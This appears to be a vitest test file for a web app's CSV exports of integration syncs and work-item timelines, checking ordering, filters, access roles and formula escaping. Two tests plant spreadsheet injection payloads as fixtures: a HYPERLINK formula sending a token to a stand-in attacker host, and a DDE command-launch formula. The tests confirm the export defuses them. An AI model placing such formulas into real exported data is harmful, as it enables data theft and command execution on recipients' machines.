import { sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { setDbHandle } from "@/db/client";
import { type SyncStatus, users } from "@/db/schema";
import { listSyncs } from "@/server/syncs/explorer";
import type { ExplorerParams, ExplorerSortKey } from "@/server/syncs/explorer-params";
import { exportSyncsCsv } from "@/server/syncs/export";
import { createWorkItem, updateWorkItem } from "@/server/work-items/work-items";
import { asUser } from "../support/auth";
import { createTestDb, DRIVERS, type TestDb } from "../support/db";
import { ACTOR, ITEM } from "../support/work-item-fixture";
import { insertIntegrations, insertSyncs, insertWorkItems } from "./explorer-fixtures";

/** RFC 4180 as a spreadsheet reads it: quoted fields, doubled quotes, CRLF rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(field);
      field = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += c;
  }
  if (field || row.length) throw new Error(`CSV does not end with CRLF: ${JSON.stringify(text.slice(-40))}`);
  return rows;
}

async function collect(source: AsyncIterable<string>): Promise<string> {
  let out = "";
  for await (const chunk of source) out += chunk;
  return out;
}

/** The export as records keyed by the header row (BOM checked and stripped). */
async function exportRecords(db: TestDb["db"], params: Partial<ExplorerParams>, batch = 4) {
  const text = await collect(exportSyncsCsv(db, params, batch));
  expect(text.startsWith("\uFEFFsync_id,")).toBe(true);
  const [header, ...rows] = parseCsv(text.slice(1));
  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
}

/** A CSV response's text after checking it starts with the UTF-8 byte-order mark Excel needs. */
async function csvBody(response: Response): Promise<string> {
  const bytes = new Uint8Array(await response.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return new TextDecoder().decode(bytes.slice(3));
}

type Route = { GET: (request: Request, context?: unknown) => Promise<Response> };
const exportRoute = () => import("@/app/api/syncs/export.csv/route") as Promise<Route>;
const timelineRoute = () => import("@/app/api/work-items/[id]/timeline/route") as Promise<Route>;

describe.each(DRIVERS)("exports on %s", (driver) => {
  let t: TestDb;
  let alpha: number;
  let beta: number;

  beforeAll(async () => {
    t = await createTestDb(driver);
    setDbHandle(t);
    const [one, two] = await insertWorkItems(t.db, 2);
    [{ id: alpha }, { id: beta }] = await insertIntegrations(t.db, ["alpha", "beta"]);
    const statuses: SyncStatus[] = ["synced", "failed", "pending"];
    for (const [i, status] of statuses.entries()) {
      await insertSyncs(t.db, {
        workItemId: one,
        integrationId: alpha,
        count: 9,
        status,
        startMinutesAgo: i,
      });
      await insertSyncs(t.db, {
        workItemId: two,
        integrationId: beta,
        count: 7,
        status,
        startMinutesAgo: i * 3,
      });
    }
    // Ties everywhere a keyset could slip: equal times, equal attempt counts, missing latencies.
    await t.db.execute(sql`
      update integration_syncs set
        created_at = date_trunc('hour', created_at) + (id % 5) * interval '1 second',
        attempt_count = id % 3,
        last_duration_ms = case when id % 4 = 0 then null else (id * 37) % 200 end`);
  });
  afterAll(async () => {
    setDbHandle(undefined);
    await t?.close();
  });

  /** The explorer's own order, every row (pages of 100). */
  async function explorerIds(params: Partial<ExplorerParams>): Promise<number[]> {
    const ids: number[] = [];
    for (let page = 1; ; page++) {
      const { rows } = await listSyncs(t.db, { ...params, page, pageSize: 100 });
      ids.push(...rows.map((r) => r.id));
      if (rows.length < 100) return ids;
    }
  }

  const SORTS: ExplorerSortKey[] = ["created", "status", "event", "attempts", "latency"];
  it.each(SORTS.flatMap((sort) => (["asc", "desc"] as const).map((dir) => [sort, dir] as const)))(
    "sorted by %s %s, keyset batches of 4 export every sync once in the explorer's order",
    async (sort, dir) => {
      const records = await exportRecords(t.db, { sort, dir });
      const expected = await explorerIds({ sort, dir });
      expect(expected).toHaveLength(48);
      expect(records.map((r) => Number(r.sync_id))).toEqual(expected);
    },
  );

  it("exports the explorer's filter, not the page on screen", async () => {
    const params = {
      integrationId: beta,
      status: ["failed", "pending"] as SyncStatus[],
      page: 2,
      pageSize: 25,
    };
    const records = await exportRecords(t.db, params);
    expect(records).toHaveLength(14);
    expect(new Set(records.map((r) => r.integration))).toEqual(new Set(["beta"]));
    expect(new Set(records.map((r) => r.status))).toEqual(new Set(["failed", "pending"]));
    expect(records.map((r) => Number(r.sync_id))).toEqual(await explorerIds({ ...params, page: 1 }));
    expect(await exportRecords(t.db, { object: "RMA-999999" })).toEqual([]);
  });

  it("writes times as ISO UTC and keeps a receiver's text from running as a formula", async () => {
    const evil = '=HYPERLINK("https://evil.test/?token=abc","click"), line\nbreak';
    await t.db.execute(sql`
      update integration_syncs set last_error = ${evil}
      where id = (select min(id) from integration_syncs where status = 'failed')`);
    const records = await exportRecords(t.db, { status: ["failed"], integrationId: alpha });
    const row = records.find((r) => r.last_error);
    expect(row?.last_error.startsWith("'=HYPERLINK(")).toBe(true);
    expect(row?.last_error).toContain("\nbreak");
    expect(row?.last_error).not.toContain("token=abc");
    for (const r of records) {
      expect(r.created_at_utc).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
      expect(r.subject).toMatch(/^workitem:\d+$/);
      expect(r.webhook_id).toMatch(/^msg_bulk_/);
    }
  });

  it("the export route is for managers: 200 with a CSV attachment, 403 for technicians, 401 signed out", async () => {
    const { GET } = await exportRoute();
    const request = () =>
      new Request(`http://app.test/api/syncs/export.csv?status=synced&integration=${alpha}`);
    const response = await asUser("manager", () => GET(request()));
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(
      /^attachment; filename="syncs-\d{8}-\d{4}\.csv"$/,
    );
    const rows = parseCsv(await csvBody(response));
    expect(rows).toHaveLength(1 + 9);
    expect((await asUser("technician", () => GET(request()))).status).toBe(403);
    expect((await asUser(null, () => GET(request()))).status).toBe(401);
  });

  it("a work item's whole timeline downloads as CSV and JSON, past the page size", async () => {
    await t.db
      .insert(users)
      .values({ id: "user-export-tess", name: "Tess Export", email: "tess-export@f.test" });
    const created = await createWorkItem(t.db, ITEM, ACTOR);
    if (!created.ok) throw new Error(created.reason);
    for (let revision = 1; revision <= 120; revision++) {
      // Revision 50 also assigns a technician: the CSV names them, as the page does, not by user id.
      const saved = await updateWorkItem(
        t.db,
        created.row.id,
        {
          revision,
          description: revision === 7 ? '=cmd|" /C calc"!A0' : `edit ${revision}`,
          ...(revision === 50 ? { technicianId: "user-export-tess" } : {}),
        },
        ACTOR,
      );
      if (!saved.ok || !saved.changed) throw new Error(`save ${revision} failed`);
    }
    const { GET } = await timelineRoute();
    const get = (format: string, id = String(created.row.id)) =>
      asUser("technician", () =>
        GET(new Request(`http://app.test/api/work-items/${id}/timeline?format=${format}`), {
          params: Promise.resolve({ id }),
        }),
      );

    const csv = await get("csv");
    expect(csv.status).toBe(200);
    expect(csv.headers.get("content-disposition")).toBe(
      `attachment; filename="${created.row.reference}-timeline.csv"`,
    );
    const [header, ...rows] = parseCsv(await csvBody(csv));
    expect(header.slice(0, 4)).toEqual(["changed_at_utc", "subject", "task_title", "revision"]);
    // 121 changes (created + 120 edits), none delivered anywhere: one row each, newest first.
    expect(rows.map((r) => Number(r[3]))).toEqual(Array.from({ length: 121 }, (_, i) => 121 - i));
    const seventh = rows.find((r) => r[3] === "8");
    expect(seventh?.[6]).toBe(`description: edit 6 → =cmd|" /C calc"!A0`);
    expect(rows.find((r) => r[3] === "51")?.[6]).toContain("technicianId: — → Tess Export");

    const json = await get("json");
    expect(json.headers.get("content-type")).toBe("application/json; charset=utf-8");
    const doc = (await json.json()) as { reference: string; entries: { revision: number }[] };
    expect(doc.reference).toBe(created.row.reference);
    expect(doc.entries.map((e) => e.revision)).toEqual(Array.from({ length: 121 }, (_, i) => 121 - i));

    expect((await get("xml")).status).toBe(400);
    expect((await get("csv", "999999")).status).toBe(404);
  });
});
